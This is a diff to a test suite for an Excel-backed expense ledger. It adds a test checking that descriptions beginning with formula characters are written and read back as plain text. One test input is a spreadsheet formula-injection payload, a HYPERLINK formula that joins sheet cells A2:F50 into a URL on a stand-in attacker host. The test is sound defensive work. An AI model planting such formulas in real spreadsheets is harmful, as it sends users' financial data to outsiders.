@@ -66,6 +66,19 @@ describe('GraphLedger against a fake Microsoft Graph', () => {
     expect(graph.requests.filter((request) => request.method === 'PATCH' || request.method === 'DELETE').map((request) => `${request.method} ${request.path}`)).toEqual(['PATCH /tables/Gastos/rows/itemAt(index=0)', 'DELETE /tables/Gastos/rows/itemAt(index=2)']);
   });
 
+  it.each(['=HYPERLINK("https://evil.example/?d="&TEXTJOIN(",",TRUE,A2:F50),"ver")', '+5511 mercado', '-10 desconto', '@SUM(D2:D9)', '\tpipoca', '\r=1+1', "'aspas"])(
+    'writes a description starting with %j as text, never a formula, and reads it back as typed',
+    async (description) => {
+      const target = ledger();
+      const ana = 'whatsapp:+5511999990001';
+      await target.add({ date: '2026-11-20', category: 'Outros', description, amount: 1, notes: 'WhatsApp x1', sender: ana });
+      await target.update(ana, 'WhatsApp x1', { amount: 2 });
+      expect(graph.formulas).toEqual([]);
+      expect(graph.rows).toEqual([['2026-11-20', 'Outros', description, 2, 'WhatsApp x1', ana]]);
+      expect((await target.list({ sender: ana })).map((row) => row.description)).toEqual([description]);
+    },
+  );
+
   it('honours Retry-After on 429 and 503, then surfaces persistent throttling as TransientError', async () => {
     const target = ledger();
     graph.throttleNext(429, 2, 1);
